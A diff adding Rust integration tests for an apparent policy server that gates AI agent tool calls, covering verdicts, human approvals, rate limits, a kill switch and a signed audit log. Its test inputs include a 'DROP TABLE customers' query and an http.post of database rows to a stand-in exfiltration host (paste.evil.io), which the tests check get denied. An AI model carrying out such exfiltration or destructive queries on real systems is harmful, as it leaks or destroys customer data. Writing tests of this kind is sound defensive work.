@@ -1,0 +1,681 @@
+//! The API over real HTTP against a real SQLite data directory.
+
+mod support;
+
+use serde_json::{Value, json};
+use support::{POLICY, TestServer};
+use warden_store::SqliteStore;
+
+fn query(sql: &str, session: &str) -> Value {
+    json!({"point": "pre_tool_call", "tool": "db.query", "session": session, "args": {"sql": sql}})
+}
+
+/// Every decision the log holds, as (seq, verdict, reason).
+fn logged_decisions(data: &std::path::Path) -> Vec<(u64, String, String)> {
+    let store = SqliteStore::open_read_only(data).unwrap();
+    let mut out = Vec::new();
+    for stored in warden_store::entries_from(&store, 0) {
+        let stored = stored.unwrap();
+        if let warden_audit::Record::Decision(d) = stored.entry().unwrap().record {
+            out.push((stored.seq, d.verdict, d.reason));
+        }
+    }
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_decision_is_in_the_log_before_it_is_returned() {
+    let server = TestServer::start(POLICY).await;
+    let d = server.decide(query("SELECT 1", "s-1")).await;
+    assert_eq!(d["verdict"], "allow");
+    assert_eq!(d["rule"], "reads");
+    let seq = d["seq"].as_u64().expect("a recorded decision has a seq");
+    let d = server.decide(query("DROP TABLE customers", "s-1")).await;
+    assert_eq!(d["verdict"], "deny");
+    assert_eq!(d["intents"], json!(["destructive"]));
+    // Another process reads the log while the server runs.
+    let logged = logged_decisions(&server.data_dir());
+    assert!(
+        logged.contains(&(seq, "allow".into(), "rule 'reads'".into())),
+        "{logged:?}"
+    );
+    assert_eq!(logged.len(), 2);
+
+    let (status, page) = server.get(&format!("/v1/audit/entries?after={seq}")).await;
+    assert_eq!(status, 200);
+    assert_eq!(page["entries"][0]["seq"], seq + 1);
+    assert_eq!(page["entries"][0]["verdict"], "deny");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bad_requests_get_json_errors_not_panics() {
+    let server = TestServer::start_with(POLICY, |c| c.max_body_bytes = 64 * 1024).await;
+    let url = format!("{}/v1/decide", server.url);
+    let raw = |body: Vec<u8>| {
+        server
+            .client
+            .post(&url)
+            .header("content-type", "application/json")
+            .body(body)
+    };
+    let cases: Vec<(Vec<u8>, u16, &str)> = vec![
+        (b"{not json".to_vec(), 400, "invalid_json"),
+        (b"".to_vec(), 400, "invalid_json"),
+        (br#"{"point": 7}"#.to_vec(), 400, "invalid_json"),
+        (
+            br#"{"point": "pre_tool_call", "tool": "x", "surprise": 1}"#.to_vec(),
+            400,
+            "invalid_json",
+        ),
+        (
+            br#"{"point": "pre_tool_call"}"#.to_vec(),
+            400,
+            "invalid_action",
+        ),
+        (
+            br#"{"point": "pre_tool_call", "tool": "db\u200b.query"}"#.to_vec(),
+            400,
+            "invalid_action",
+        ),
+        (
+            b"{\"point\": \"input\", \"args\": {\"x\": \"\xff\xfe\"}}".to_vec(),
+            400,
+            "invalid_json",
+        ),
+        (
+            format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes(),
+            400,
+            "invalid_json",
+        ),
+        (vec![b' '; 65 * 1024], 413, "body_too_large"),
+    ];
+    for (body, status, code) in cases {
+        let shown = String::from_utf8_lossy(&body[..body.len().min(60)]).to_string();
+        let (got, value) = server.send(raw(body)).await;
+        assert_eq!(got, status, "{shown}: {value}");
+        assert_eq!(value["error"]["code"], code, "{shown}: {value}");
+        assert!(
+            value["error"]["message"]
+                .as_str()
+                .is_some_and(|m| !m.is_empty())
+        );
+    }
+    let (status, value) = server.get("/v1/nothing-here").await;
+    assert_eq!(
+        (status, value["error"]["code"].as_str()),
+        (404, Some("no_route"))
+    );
+    let (status, value) = server.get("/v1/decide").await;
+    assert_eq!(
+        (status, value["error"]["code"].as_str()),
+        (405, Some("method_not_allowed"))
+    );
+    // Still answering.
+    assert_eq!(
+        server.decide(query("SELECT 1", "s")).await["verdict"],
+        "allow"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn batches_decide_each_action_in_order() {
+    let server = TestServer::start(POLICY).await;
+    let (status, body) = server
+        .post(
+            "/v1/decide/batch",
+            &json!({"actions": [query("SELECT 1", "a"), query("DROP TABLE t", "a"), {"point": "input"}]}),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    let verdicts: Vec<&str> = body["decisions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["verdict"].as_str().unwrap())
+        .collect();
+    assert_eq!(verdicts, ["allow", "deny", "deny"]);
+    let (status, body) = server
+        .post(
+            "/v1/decide/batch",
+            &json!({"actions": [query("SELECT 1", "a"), {"point": "nope"}]}),
+        )
+        .await;
+    assert_eq!(status, 400);
+    assert!(
+        body["error"]["message"]
+            .as_str()
+            .unwrap()
+            .starts_with("actions[1]"),
+        "{body}"
+    );
+    let many: Vec<Value> = (0..1001).map(|_| json!({"point": "input"})).collect();
+    let (status, body) = server
+        .post("/v1/decide/batch", &json!({"actions": many}))
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (400, Some("batch_too_large"))
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn outcomes_link_to_allowed_decisions_only() {
+    let server = TestServer::start(POLICY).await;
+    let allowed = server.decide(query("SELECT 1", "s")).await["seq"]
+        .as_u64()
+        .unwrap();
+    let denied = server.decide(query("DROP TABLE x", "s")).await["seq"]
+        .as_u64()
+        .unwrap();
+    let (status, body) = server
+        .post(
+            "/v1/outcomes",
+            &json!({"decision_seq": allowed, "outcome": "succeeded", "result_hash": format!("sha256:{}", "ab".repeat(32))}),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    let outcome_seq = body["seq"].as_u64().unwrap();
+    let (status, body) = server
+        .post(
+            "/v1/outcomes",
+            &json!({"decision_seq": denied, "outcome": "failed"}),
+        )
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (409, Some("not_allowed"))
+    );
+    let (status, body) = server
+        .post(
+            "/v1/outcomes",
+            &json!({"decision_seq": outcome_seq, "outcome": "failed"}),
+        )
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (409, Some("not_a_decision"))
+    );
+    let (status, _) = server
+        .post(
+            "/v1/outcomes",
+            &json!({"decision_seq": 999, "outcome": "unknown"}),
+        )
+        .await;
+    assert_eq!(status, 404);
+    let (status, body) = server
+        .post(
+            "/v1/outcomes",
+            &json!({"decision_seq": allowed, "outcome": "maybe"}),
+        )
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (400, Some("invalid_request"))
+    );
+    let (_, page) = server
+        .get(&format!("/v1/audit/entries?after={}", outcome_seq - 1))
+        .await;
+    assert_eq!(page["entries"][0]["decision_seq"], allowed, "{page}");
+    assert_eq!(page["entries"][0]["outcome"], "succeeded");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_approved_action_is_allowed_exactly_once() {
+    let server = TestServer::start(POLICY).await;
+    let mail = |to: &str| json!({"point": "pre_tool_call", "tool": "email.send", "session": "s", "args": {"to": to, "body": "hi"}});
+    let first = server.decide(mail("a@example.com")).await;
+    assert_eq!(first["verdict"], "require_approval");
+    let id = first["approval"]["id"].as_str().unwrap().to_string();
+    assert_eq!(first["approval"]["state"], "pending");
+    // Asking again while pending names the same approval.
+    let again = server.decide(mail("a@example.com")).await;
+    assert_eq!(again["approval"]["id"], id.as_str());
+    let (_, pending) = server.get("/v1/approvals?state=pending").await;
+    assert_eq!(pending["approvals"].as_array().unwrap().len(), 1);
+    assert_eq!(
+        pending["approvals"][0]["approvers"],
+        json!(["dba@example.com"])
+    );
+
+    // Only a listed approver may answer.
+    let (status, body) = server
+        .post(
+            &format!("/v1/approvals/{id}/approve"),
+            &json!({"approver": "mallory@example.com"}),
+        )
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (403, Some("not_an_approver"))
+    );
+    let (status, body) = server
+        .post(
+            &format!("/v1/approvals/{id}/approve"),
+            &json!({"approver": "dba@example.com", "comment": "fine", "signature": "sig-123"}),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["state"], "approved");
+    let (status, body) = server
+        .post(
+            &format!("/v1/approvals/{id}/deny"),
+            &json!({"approver": "dba@example.com"}),
+        )
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (409, Some("approval_not_pending"))
+    );
+
+    // A changed argument is a new action.
+    let other = server.decide(mail("b@example.com")).await;
+    assert_eq!(other["verdict"], "require_approval");
+    assert_ne!(other["approval"]["id"], id.as_str());
+
+    let used = server.decide(mail("a@example.com")).await;
+    assert_eq!(used["verdict"], "allow", "{used}");
+    assert_eq!(used["reason"], "approval:approved");
+    assert_eq!(used["approval"]["id"], id.as_str());
+    let after = server.decide(mail("a@example.com")).await;
+    assert_eq!(
+        after["verdict"], "require_approval",
+        "allowed once only: {after}"
+    );
+    assert_ne!(after["approval"]["id"], id.as_str());
+    let (_, one) = server.get(&format!("/v1/approvals/{id}")).await;
+    assert_eq!(one["state"], "used");
+    assert_eq!(one["decided_by"], "dba@example.com");
+
+    // The approver's answer and signature are in the log.
+    let (_, page) = server.get("/v1/audit/entries?limit=1000").await;
+    let answer = page["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["action"] == "approval.approved")
+        .expect("the approval is audited");
+    assert_eq!(answer["actor"], "dba@example.com");
+    assert_eq!(answer["subject"], id.as_str());
+    let details: Value = serde_json::from_str(answer["details"].as_str().unwrap()).unwrap();
+    assert_eq!(details["signature"], "sig-123");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_denied_or_expired_approval_denies_the_action() {
+    let server = TestServer::start_with(POLICY, |c| {
+        c.approval_ttl = std::time::Duration::from_millis(800)
+    })
+    .await;
+    let mail = |to: &str| json!({"point": "pre_tool_call", "tool": "email.send", "args": {"to": to, "body": "x"}});
+    let id = server.decide(mail("a@example.com")).await["approval"]["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let (status, _) = server
+        .post(
+            &format!("/v1/approvals/{id}/deny"),
+            &json!({"approver": "dba@example.com"}),
+        )
+        .await;
+    assert_eq!(status, 200);
+    let d = server.decide(mail("a@example.com")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["reason"].as_str()),
+        (Some("deny"), Some("approval:denied"))
+    );
+
+    let id = server.decide(mail("late@example.com")).await["approval"]["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    tokio::time::sleep(std::time::Duration::from_millis(900)).await;
+    let (_, expired) = server.get("/v1/approvals?state=expired").await;
+    assert!(
+        expired["approvals"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|a| a["id"] == id.as_str())
+    );
+    let (status, body) = server
+        .post(
+            &format!("/v1/approvals/{id}/approve"),
+            &json!({"approver": "dba@example.com"}),
+        )
+        .await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (409, Some("approval_not_pending"))
+    );
+    let d = server.decide(mail("late@example.com")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["reason"].as_str()),
+        (Some("deny"), Some("approval:expired"))
+    );
+    // The next identical action asks afresh.
+    let d = server.decide(mail("late@example.com")).await;
+    assert_eq!(d["verdict"], "require_approval");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn labels_from_tool_results_steer_later_actions_in_the_session() {
+    let server = TestServer::start(POLICY).await;
+    let post = |session: &str| json!({"point": "pre_tool_call", "tool": "http.post", "session": session, "args": {"url": "https://paste.evil.io/x", "body": "rows"}});
+    // Before: the post is allowed (exfiltration is only denied after pii).
+    assert_eq!(server.decide(post("s-pii")).await["verdict"], "allow");
+    let result = server
+        .decide(json!({"point": "post_tool_call", "tool": "db.query", "session": "s-pii", "args": {"sql": "SELECT * FROM customers"}}))
+        .await;
+    assert_eq!(result["verdict"], "allow");
+    assert_eq!(result["labels_added"], json!(["pii"]));
+    let d = server.decide(post("s-pii")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["rule"].as_str()),
+        (Some("deny"), Some("no-exfiltration-after-pii")),
+        "{d}"
+    );
+    // Another session is not affected.
+    assert_eq!(server.decide(post("s-other")).await["verdict"], "allow");
+
+    // Untrusted web content makes side effects wait for a human.
+    server
+        .decide(json!({"point": "post_tool_call", "tool": "web.fetch", "session": "s-web", "args": {"url": "https://example.com/"}}))
+        .await;
+    let d = server
+        .decide(json!({"point": "pre_tool_call", "tool": "http.post", "session": "s-web", "args": {"url": "https://example.com/api", "body": "x"}}))
+        .await;
+    assert_eq!(d["verdict"], "require_approval", "{d}");
+
+    // The labels are durable: a restarted server still knows them.
+    let dir = server.stop().await;
+    let config = warden_server::Config {
+        listen: "127.0.0.1:0".parse().unwrap(),
+        data_dir: dir.path().join("data"),
+        policy: Some(dir.path().join("policy/policy.yaml")),
+        watch: false,
+        ..warden_server::Config::default()
+    };
+    let server = TestServer::start_config(dir, config).await;
+    let d = server.decide(post("s-pii")).await;
+    assert_eq!(d["rule"], "no-exfiltration-after-pii", "{d}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn limits_deny_with_rate_limited_and_retry_after() {
+    let server = TestServer::start(POLICY).await;
+    let call = |tool: &str, session: &str| json!({"point": "pre_tool_call", "tool": tool, "agent": "bot", "session": session});
+    assert_eq!(
+        server.decide(call("limited.tool", "a")).await["verdict"],
+        "allow"
+    );
+    assert_eq!(
+        server.decide(call("limited.tool", "b")).await["verdict"],
+        "allow"
+    );
+    let d = server.decide(call("limited.tool", "c")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["reason"].as_str()),
+        (Some("deny"), Some("rate_limited")),
+        "{d}"
+    );
+    let retry = d["retry_after"].as_u64().unwrap();
+    assert!(retry > 3500 && retry <= 3600, "{retry}");
+    // Counted per agent.
+    let other = json!({"point": "pre_tool_call", "tool": "limited.tool", "agent": "other"});
+    assert_eq!(server.decide(other).await["verdict"], "allow");
+
+    assert_eq!(
+        server.decide(call("session.tool", "s1")).await["verdict"],
+        "allow"
+    );
+    let d = server.decide(call("session.tool", "s1")).await;
+    assert_eq!(d["reason"], "rate_limited");
+    assert!(
+        d.get("retry_after").is_none(),
+        "a session limit has no retry: {d}"
+    );
+    assert_eq!(
+        server.decide(call("session.tool", "s2")).await["verdict"],
+        "allow"
+    );
+
+    let (_, metrics) = (
+        200,
+        server
+            .client
+            .get(format!("{}/metrics", server.url))
+            .send()
+            .await
+            .unwrap()
+            .text()
+            .await
+            .unwrap(),
+    );
+    assert!(metrics.contains("warden_rate_limited_total 2"), "{metrics}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_kill_switch_stops_the_next_decision_and_is_audited() {
+    let server = TestServer::start(POLICY).await;
+    let q = |agent: &str| json!({"point": "pre_tool_call", "tool": "db.query", "agent": agent, "args": {"sql": "SELECT 1"}});
+    assert_eq!(server.decide(q("a")).await["verdict"], "allow");
+    let (status, body) = server
+        .post("/v1/kill", &json!({"agent": "a", "reason": "misbehaving"}))
+        .await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["agents"]["a"]["reason"], "misbehaving");
+    let d = server.decide(q("a")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["reason"].as_str()),
+        (Some("deny"), Some("lifecycle:killed"))
+    );
+    assert_eq!(server.decide(q("b")).await["verdict"], "allow");
+
+    let (status, _) = server
+        .post("/v1/kill", &json!({"reason": "incident 42"}))
+        .await;
+    assert_eq!(status, 200);
+    assert_eq!(server.decide(q("b")).await["reason"], "lifecycle:killed");
+    let (_, status_now) = server.get("/v1/kill").await;
+    assert_eq!(status_now["active"], true);
+    assert_eq!(status_now["global"]["reason"], "incident 42");
+
+    let (status, body) = server.delete("/v1/kill").await;
+    assert_eq!((status, body["lifted"].as_bool()), (200, Some(true)));
+    assert_eq!(server.decide(q("b")).await["verdict"], "allow");
+    assert_eq!(server.decide(q("a")).await["reason"], "lifecycle:killed");
+    let (_, body) = server.delete("/v1/kill?agent=a").await;
+    assert_eq!(body["lifted"], true);
+    assert_eq!(server.decide(q("a")).await["verdict"], "allow");
+    let (_, body) = server.delete("/v1/kill?agent=a").await;
+    assert_eq!(body["lifted"], false);
+    let (status, body) = server.post("/v1/kill", &json!({"reason": " "})).await;
+    assert_eq!(
+        (status, body["error"]["code"].as_str()),
+        (400, Some("invalid_request"))
+    );
+
+    let (_, page) = server.get("/v1/audit/entries?limit=1000").await;
+    let actions: Vec<&str> = page["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|e| e["action"].as_str())
+        .collect();
+    assert_eq!(actions, ["kill.on", "kill.on", "kill.off", "kill.off"]);
+
+    // The switch survives a restart.
+    server.post("/v1/kill", &json!({"reason": "stop"})).await;
+    let dir = server.stop().await;
+    let config = warden_server::Config {
+        listen: "127.0.0.1:0".parse().unwrap(),
+        data_dir: dir.path().join("data"),
+        policy: Some(dir.path().join("policy/policy.yaml")),
+        watch: false,
+        ..warden_server::Config::default()
+    };
+    let server = TestServer::start_config(dir, config).await;
+    assert_eq!(server.decide(q("b")).await["reason"], "lifecycle:killed");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn audit_checkpoint_and_proofs_verify() {
+    let server = TestServer::start(POLICY).await;
+    for i in 0..5 {
+        server.decide(query(&format!("SELECT {i}"), "s")).await;
+    }
+    let (status, cp) = server.get("/v1/audit/checkpoint").await;
+    assert_eq!(status, 200, "{cp}");
+    assert_eq!(cp["size"], 5);
+    let verifier =
+        warden_audit::LogVerifier::from_key_string(cp["verifier_key"].as_str().unwrap()).unwrap();
+    let checkpoint = verifier
+        .verify_checkpoint(cp["note"].as_str().unwrap())
+        .unwrap();
+    assert_eq!(hex::encode(checkpoint.root), cp["root"].as_str().unwrap());
+    let (status, proof) = server.get("/v1/audit/proof/3").await;
+    assert_eq!(status, 200, "{proof}");
+    assert_eq!(proof["root"], cp["root"]);
+    let hashes: Vec<[u8; 32]> = proof["hashes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| <[u8; 32]>::try_from(hex::decode(h.as_str().unwrap()).unwrap()).unwrap())
+        .collect();
+    let leaf =
+        <[u8; 32]>::try_from(hex::decode(proof["leaf_hash"].as_str().unwrap()).unwrap()).unwrap();
+    warden_audit::verify_inclusion(&leaf, 3, 5, &hashes, &checkpoint.root)
+        .expect("the proof verifies against the signed root");
+    let (status, _) = server.get("/v1/audit/proof/9").await;
+    assert_eq!(status, 404);
+    let (status, _) = server.get("/v1/audit/proof/x").await;
+    assert_eq!(status, 400);
+    let (status, _) = server.get("/v1/audit/entries?limit=0").await;
+    assert_eq!(status, 400);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn health_and_readiness() {
+    let server = TestServer::start(POLICY).await;
+    assert_eq!(server.get("/healthz").await, (200, json!({"status": "ok"})));
+    let (status, body) = server.get("/readyz").await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["store"]["writable"], true);
+    assert_eq!(body["policy"]["name"], "test");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_non_loopback_address_needs_authentication() {
+    let dir = tempfile::tempdir().unwrap();
+    let err = warden_server::Server::bind(warden_server::Config {
+        listen: "0.0.0.0:0".parse().unwrap(),
+        data_dir: dir.path().join("data"),
+        ..warden_server::Config::default()
+    })
+    .await
+    .err()
+    .expect("refused");
+    assert!(err.to_string().contains("without authentication"), "{err}");
+    assert!(
+        !dir.path().join("data").exists(),
+        "nothing is created before the refusal"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn roles_guard_the_routes() {
+    let dir = tempfile::tempdir().unwrap();
+    let auth = dir.path().join("auth.yaml");
+    std::fs::write(
+        &auth,
+        "tokens:\n  - {name: bot, role: agent, token: agent-token-0123456789}\n  - {name: dba@example.com, role: approver, token: approver-token-0123456789}\n  - {name: root@example.com, role: admin, token: admin-token-0123456789}\n",
+    )
+    .unwrap();
+    let server = TestServer::start_with(POLICY, |c| c.auth_file = Some(auth)).await;
+    let with = |token: &str, path: &str, body: Option<Value>| {
+        let url = format!("{}{path}", server.url);
+        let r = match body {
+            Some(b) => server.client.post(url).json(&b),
+            None => server.client.get(url),
+        };
+        if token.is_empty() {
+            r
+        } else {
+            r.bearer_auth(token)
+        }
+    };
+    let action = json!({"point": "pre_tool_call", "tool": "email.send", "args": {"to": "x@example.com", "body": "b"}});
+    for (token, path, body, status) in [
+        ("", "/v1/decide", Some(action.clone()), 401),
+        (
+            "wrong-token-0123456789",
+            "/v1/decide",
+            Some(action.clone()),
+            401,
+        ),
+        (
+            "approver-token-0123456789",
+            "/v1/decide",
+            Some(action.clone()),
+            403,
+        ),
+        (
+            "agent-token-0123456789",
+            "/v1/decide",
+            Some(action.clone()),
+            200,
+        ),
+        (
+            "admin-token-0123456789",
+            "/v1/decide",
+            Some(action.clone()),
+            200,
+        ),
+        ("agent-token-0123456789", "/v1/approvals", None, 403),
+        ("approver-token-0123456789", "/v1/approvals", None, 200),
+        ("approver-token-0123456789", "/v1/kill", None, 403),
+        ("admin-token-0123456789", "/v1/kill", None, 200),
+        ("", "/healthz", None, 200),
+        ("", "/metrics", None, 200),
+    ] {
+        let response = with(token, path, body).send().await.unwrap();
+        assert_eq!(response.status().as_u16(), status, "{token} {path}");
+        if status >= 400 {
+            let v: Value = response.json().await.unwrap();
+            assert_eq!(
+                v["error"]["code"],
+                if status == 401 {
+                    "unauthenticated"
+                } else {
+                    "forbidden"
+                }
+            );
+        }
+    }
+    // The approver is the token's holder; naming someone else is refused.
+    let (_, pending) = server
+        .send(with(
+            "approver-token-0123456789",
+            "/v1/approvals?state=pending",
+            None,
+        ))
+        .await;
+    let id = pending["approvals"][0]["id"].as_str().unwrap().to_string();
+    let (status, _) = server
+        .send(with(
+            "approver-token-0123456789",
+            &format!("/v1/approvals/{id}/approve"),
+            Some(json!({"approver": "root@example.com"})),
+        ))
+        .await;
+    assert_eq!(status, 403);
+    let (status, body) = server
+        .send(with(
+            "approver-token-0123456789",
+            &format!("/v1/approvals/{id}/approve"),
+            Some(json!({})),
+        ))
+        .await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["decided_by"], "dba@example.com");
+}
